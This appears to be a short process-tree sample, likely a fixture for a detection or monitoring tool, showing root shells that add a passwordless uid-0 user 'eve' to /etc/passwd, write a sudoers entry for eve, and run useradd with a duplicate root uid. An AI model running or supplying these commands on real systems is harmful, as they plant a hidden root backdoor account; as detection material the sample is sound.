os linux
101 1 root - /usr/bin/bash | /usr/bin/bash
+ 102 101 root - /usr/bin/bash | bash -c echo "eve::0:0::/root:/bin/bash" >> /etc/passwd
+ 103 101 root - /usr/bin/tee | tee /etc/sudoers.d/eve
+ 104 101 root - /usr/bin/useradd | useradd -o -u 0 eve
